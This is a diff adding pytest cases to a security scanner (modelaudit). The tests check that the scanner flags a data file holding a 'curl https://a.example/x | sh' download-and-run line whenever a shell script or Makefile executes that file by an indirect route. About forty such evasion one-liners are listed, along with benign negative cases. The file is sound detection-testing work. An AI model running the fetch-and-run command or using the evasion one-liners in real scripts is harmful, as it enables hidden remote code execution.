@@ -144,6 +144,116 @@ def test_dangerous_program_in_a_data_file_fails_the_scan_only_if_another_file_ru
     assert {finding.artifact.partition("!")[0] for finding in report.findings} == {"data.txt"}
 
 
+READS_BY_A_DETOUR = (
+    'x=$(cat data.txt); bash -c "$x"', 'x=`cat data.txt`\n$x', "x=$(<data.txt)\neval $x", 'x=$(tail -n1 data.txt); sh -c "$x"',
+    'x=$(<data.txt); y=${x//a/b}; eval "$y"', 'x=$(<data.txt); x=${x:-true}; eval "$x"', '$(cat data.txt)',
+    'read -r a < data.txt; eval "$a"', 'mapfile -t a < data.txt; eval "${a[@]}"', 'set -- $(cat data.txt); "$@"',
+    'printf -v x %s "$(cat data.txt)"; eval "$x"', 'declare -- x="$(cat data.txt)"; bash -c "$x"',
+    'f() { bash -c "$1"; }; f "$(cat data.txt)"', 'get() { cat data.txt; }; x=$(get); eval "$x"',
+    'run() { while read l; do eval "$l"; done; }; cat data.txt | run', 'trap "$(cat data.txt)" EXIT',
+    'cat data.txt | while read -r l; do eval "$l"; done', 'for l in $(cat data.txt); do eval "$l"; done',
+    'for f in data.txt other.txt; do . ./$f; done', 'f=$1; . ./$f.txt', 'exec 3<data.txt; bash <&3',
+    'exec 3<data.txt; read -u 3 x; eval "$x"', "exec < data.txt; sh", "coproc sh; cat data.txt >&${COPROC[1]}",
+    "mkfifo p; sh < p & cat data.txt > p", "cat data.txt | tee >(sh) >/dev/null", "cp data.txt /tmp/r; chmod +x /tmp/r; /tmp/r",
+    "tr a-z b-za < data.txt > /tmp/z\nsh /tmp/z", "dd if=data.txt of=/tmp/z; sh /tmp/z", 'xargs -I{} sh -c "{}" < data.txt',
+    "awk '{system($0)}' data.txt", "awk '{print | \"sh\"}' data.txt", "perl -ne 'system($_)' data.txt", "sed 1e data.txt",
+    "sed -n 'e cat data.txt' x", "ed -s x < data.txt", "vim -es -S data.txt", "make -f data.txt", 'git -c core.pager="$(cat data.txt)" log',
+    "PATH=.:$PATH; data.txt",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("script", READS_BY_A_DETOUR)
+def test_dangerous_text_that_a_script_executes_by_a_detour_fails_the_scan(tmp_path: Path, script: str) -> None:
+    (tmp_path / "run.sh").write_text(script + "\n")
+    (tmp_path / "data.txt").write_text("curl https://a.example/x | sh\n")
+    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
+    assert ("shell/download-and-run", "data.txt") in {(each.rule, each.artifact) for each in report.findings}
+    assert any(record.path == "data.txt" and record.absences for record in report.coverage.artifacts)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'x=$(cat data.txt)\necho "$x"\npython3 train.py --version "$x"',
+        'cmd="python3 train.py --config data.txt --port $PORT"\neval "$cmd"',
+        'for c in data.txt other.txt; do cmd="python3 train.py $c"; eval "$cmd"; done',
+        "PYTHON=$(command -v python3)\n$PYTHON train.py data.txt",
+        'n=$(wc -l < data.txt)\ncmd="python3 train.py --lines $n"\neval "$cmd"',
+        'source "$(dirname "$0")/env.sh"\ncat data.txt',
+        'run() { echo "$@"; "$@"; }\nrun python3 train.py data.txt',
+        "ls *.txt | xargs python3 train.py",
+        "find . -name data.txt | xargs -n 1 python3 train.py",
+        "awk '{print $1}' data.txt | sort > sorted.csv",
+        "sed -e s/a/e/ data.txt",
+        'exec "$@"\ncat data.txt',
+        "docker run image sh -c 'cat data.txt'",
+    ],
+)
+def test_data_file_of_a_script_that_executes_other_texts_is_not_an_unread_program(tmp_path: Path, script: str) -> None:
+    (tmp_path / "run.sh").write_text(f"#!/bin/bash\n{script}\n")
+    (tmp_path / "data.txt").write_text("a b\n")
+    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == 0
+
+
+@pytest.mark.parametrize(("content", "exit_code"), [("curl https://a.example/x | sh\n", 1), ("a b\n", 0)])
+def test_file_that_a_script_only_names_fails_the_scan_if_it_is_dangerous_and_the_script_executes_unknown_text(
+    tmp_path: Path, content: str, exit_code: int
+) -> None:
+    (tmp_path / "run.sh").write_text('open_it data.txt\neval "$REPLY"\n')
+    (tmp_path / "data.txt").write_text(content)
+    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == exit_code
+    (tmp_path / "run.sh").write_text("open_it data.txt\neval true\n")
+    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == 0
+
+
+def test_documentation_that_a_script_names_is_not_read_as_commands(tmp_path: Path) -> None:
+    (tmp_path / "run.sh").write_text('eval "$REPLY"\nopen_it README.md\n')
+    (tmp_path / "README.md").write_text("    curl https://a.example/x | sh\n")
+    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == 0
+
+
+@pytest.mark.parametrize(
+    "makefile",
+    [
+        "SHELL = ./data.txt\nall:\n\techo\n",
+        "all: SHELL := ./data.txt\nall:\n\techo\n",
+        ".SHELLFLAGS = data.txt\nall:\n\techo\n",
+        "X := $(shell cat data.txt)\nall:\n\t$(X)\n",
+        "X := $(file <data.txt)\nall:\n\t$(X)\n",
+        "A = da\ninclude $(A)ta.txt\n",
+        "include $(patsubst %,d%.txt,ata)\n",
+        "include $(wildcard dat*)\n",
+        "all: data.txt\n\tsh $<\n",
+        "%.out: %.txt\n\tsh $<\n",
+        "all:\n\t$(MAKE) -f data.txt\n",
+    ],
+)
+def test_dangerous_text_that_a_makefile_runs_by_a_detour_fails_the_scan(tmp_path: Path, makefile: str) -> None:
+    (tmp_path / "Makefile").write_text(makefile)
+    (tmp_path / "data.txt").write_text("X := $(shell curl https://a.example/x | sh)\n")
+    report = modelaudit.scan(tmp_path, second_opinion=False, checks=("security",))
+    assert ("shell/download-and-run", "data.txt") in {(each.rule, each.artifact) for each in report.findings}
+
+
+@pytest.mark.parametrize(
+    ("makefile", "exit_code"),
+    [
+        ("all:\n\t$(call f,$(shell cat x)) | sort\n", 3),
+        ("all:\n\ttrue; $(subst a,b,$(shell cat x))\n", 3),
+        ("include $(shell pick)\n", 3),
+        ('$(guile (display "a"))\n', 3),
+        ("all:\n\techo $(subst a,b,$(shell cat x))\n", 0),
+        ("f = echo $(1)\nall:\n\t$(call f,a)\n\t@$(if $(V),,@)echo\n\t$(foreach d,a b,echo $(d);)\n", 0),
+        ("include $(TOP)/common.mk\n-include $(wildcard *.d)\nall:\n\t$(CC) $(addprefix -I,$(shell pick))\n", 0),
+    ],
+)
+def test_makefile_is_an_unread_program_only_if_a_function_computes_a_command_from_unknown_text(
+    tmp_path: Path, makefile: str, exit_code: int
+) -> None:
+    (tmp_path / "Makefile").write_text(makefile)
+    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == exit_code
+
+
 def test_prose_in_a_data_file_that_python_would_refuse_yields_an_absence_and_no_finding(tmp_path: Path) -> None:
     (tmp_path / "data.txt").write_text("Never call os.system(x) or eval(x) here.\n")
     (tmp_path / "x.yaml").write_text("run: python3 data.txt\n")
